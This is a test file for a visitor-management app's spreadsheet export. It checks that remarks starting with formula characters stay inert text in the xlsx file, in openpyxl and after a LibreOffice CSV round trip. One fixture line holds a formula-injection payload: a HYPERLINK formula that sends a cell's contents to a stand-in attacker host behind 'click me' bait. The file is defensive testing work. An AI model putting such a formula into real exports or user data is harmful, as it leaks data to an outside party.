import { execFileSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, expect, it } from "vitest";
import { visitor } from "../../src/catalogue/registry";
import { drainJobs } from "../../server/platform/jobs/runner";
import { createTestServer, describeEachDb, type TestServer } from "./harness";

/**
 * An export opened by spreadsheets nobody here wrote (issue 22, OWASP CSV injection): a visitor's
 * remark `=HYPERLINK(…)` is text in the xlsx and still text after LibreOffice saves it as CSV and
 * reads that CSV back; a negative amount stays a number. openpyxl (Debian's python3-openpyxl) and
 * LibreOffice (libreoffice-calc-nogui) are outside tools: their checks run where they are installed.
 */

const PYTHON = "/usr/bin/python3";
const has = (cmd: string, args: string[]) => {
  try {
    execFileSync(cmd, args, { stdio: "ignore", timeout: 60_000 });
    return true;
  } catch {
    return false;
  }
};
const HAS_OPENPYXL = has(PYTHON, ["-c", "import openpyxl"]);
const HAS_LIBREOFFICE = has("soffice", ["--version"]);

const REMARK = '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")';
const OTHERS = ["+86 138", "-1+2", "@SUM(1,2)", "\t=1+1"];

/** Every cell of the first sheet as openpyxl reads it: [data_type, value] ('s' text, 'n' number, 'f' formula). */
function openpyxlCells(file: string): [string, unknown][][] {
  const script = "import json,sys,openpyxl\nws=openpyxl.load_workbook(sys.argv[1]).worksheets[0]\nprint(json.dumps([[[c.data_type,c.value] for c in r] for r in ws.iter_rows()]))";
  return JSON.parse(execFileSync(PYTHON, ["-c", script, file], { encoding: "utf8" })) as [string, unknown][][];
}

/** LibreOffice headless: converts `file` to `format` in `outDir` (a profile of its own, so runs do not collide). */
function soffice(file: string, format: "csv" | "xlsx", outDir: string): string {
  // CSV as UTF-8 with commas and double quotes (filter options 44,34,76), out and in; otherwise LibreOffice's defaults.
  const target = format === "csv" ? "csv:Text - txt - csv (StarCalc):44,34,76" : format;
  const input = file.endsWith(".csv") ? ["--infilter=CSV:44,34,76"] : [];
  execFileSync("soffice", [`-env:UserInstallation=file://${outDir}/profile`, "--headless", ...input, "--convert-to", target, "--outdir", outDir, file], { stdio: "ignore", timeout: 120_000 });
  return path.join(outDir, `${path.basename(file, path.extname(file))}.${format}`);
}

describeEachDb("exports a spreadsheet does not run", (kind) => {
  let t: TestServer;
  let dir: string;
  let xlsxFile: string;
  let visitorId: number;
  beforeAll(async () => {
    t = await createTestServer(kind, { seed: "demo" });
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "moyuan-formulas-"));
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("writes a remark that starts a formula as text with a leading quote, and amounts as numbers", async () => {
    const listed = await t.rpc("TouristServiceAdmin/listVisitor", { page: { skip: 0, limit: 5 }, sort: { by: "registerAt", asc: true } }, t.adminToken);
    const visitors = listed.body.data as { Id: number; utime: number }[];
    expect(visitors.length).toBe(5);
    const remarks = [REMARK, ...OTHERS];
    for (const [i, v] of visitors.entries()) {
      const r = await t.rpc("TouristServiceAdmin/updateVisitor", { Id: v.Id, utime: v.utime, data: { remark: remarks[i] } }, t.adminToken);
      expect(r.body.code, JSON.stringify(r.body)).toBe("SUCCESS");
    }
    visitorId = visitors[0]!.Id;
    // A negative amount as the database holds it (a correction), whatever the form allows.
    await t.server.deps.db.updateTable(visitor.table).set({ balance: -1_250 }).where("Id", "=", visitorId).execute();

    const Ids = visitors.map((v) => v.Id);
    const start = await t.rpc("JobServiceAdmin/startExport", { resource: "visitor", Ids, mask: { fields: ["remark", "balance", "nickName"] } }, t.adminToken);
    expect(start.body.code, JSON.stringify(start.body)).toBe("SUCCESS");
    await drainJobs(t.server.deps);
    const job = (await t.rpc("JobServiceAdmin/getJob", { Id: start.body.Id }, t.adminToken)).body as unknown as { data: { status: string }; resultUrl: string };
    expect(job.data.status).toBe("DONE");
    const file = await t.server.app.request(job.resultUrl, {}, { incoming: { socket: { remoteAddress: "127.0.0.1" } } });
    const bytes = Buffer.from(await file.arrayBuffer());
    xlsxFile = path.join(dir, `visitors-${kind}.xlsx`);
    fs.writeFileSync(xlsxFile, bytes);

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(remarks.length + 1);
    const rows = Ids.map((_, i) => sheet.getRow(i + 2));
    const shown = rows.map((row) => row.getCell(1));
    expect(shown.map((c) => c.type)).toEqual(remarks.map(() => ExcelJS.ValueType.String));
    expect(shown.map((c) => c.value).sort()).toEqual(remarks.map((r) => `'${r}`).sort());
    const first = rows.find((row) => row.getCell(1).value === `'${REMARK}`)!;
    expect(first.getCell(2).type).toBe(ExcelJS.ValueType.Number);
    expect(first.getCell(2).value).toBe(-12.5);
  });

  it.runIf(HAS_OPENPYXL)("reads as text in openpyxl, the amount as a number", () => {
    const cells = openpyxlCells(xlsxFile).slice(1);
    const remark = cells.find((row) => row[0]?.[1] === `'${REMARK}`);
    expect(remark?.[0]).toEqual(["s", `'${REMARK}`]);
    expect(remark?.[1]).toEqual(["n", -12.5]);
    expect(cells.every((row) => row[0]?.[0] === "s")).toBe(true);
  });

  it.runIf(HAS_OPENPYXL && HAS_LIBREOFFICE && kind === "sqlite")("stays text through LibreOffice: xlsx → CSV → spreadsheet, where a bare formula would run", () => {
    const csv = soffice(xlsxFile, "csv", dir);
    const text = fs.readFileSync(csv, "utf8");
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点我查看"")"`);
    const back = openpyxlCells(soffice(csv, "xlsx", path.join(dir, "back"))).slice(1);
    expect(back.map((row) => row[0]?.[0])).toEqual(["s", "s", "s", "s", "s"]);
    expect(back.some((row) => row[0]?.[1] === `'${REMARK}`)).toBe(true);
    // The control: the same CSV line without the quote becomes a formula in LibreOffice.
    const bare = path.join(dir, "bare.csv");
    fs.writeFileSync(bare, "remark\n=1+1\n");
    expect(openpyxlCells(soffice(bare, "xlsx", path.join(dir, "bare")))[1]?.[0]).toEqual(["f", "=1+1"]);
  }, 240_000); // three LibreOffice starts, slow on a busy machine
});
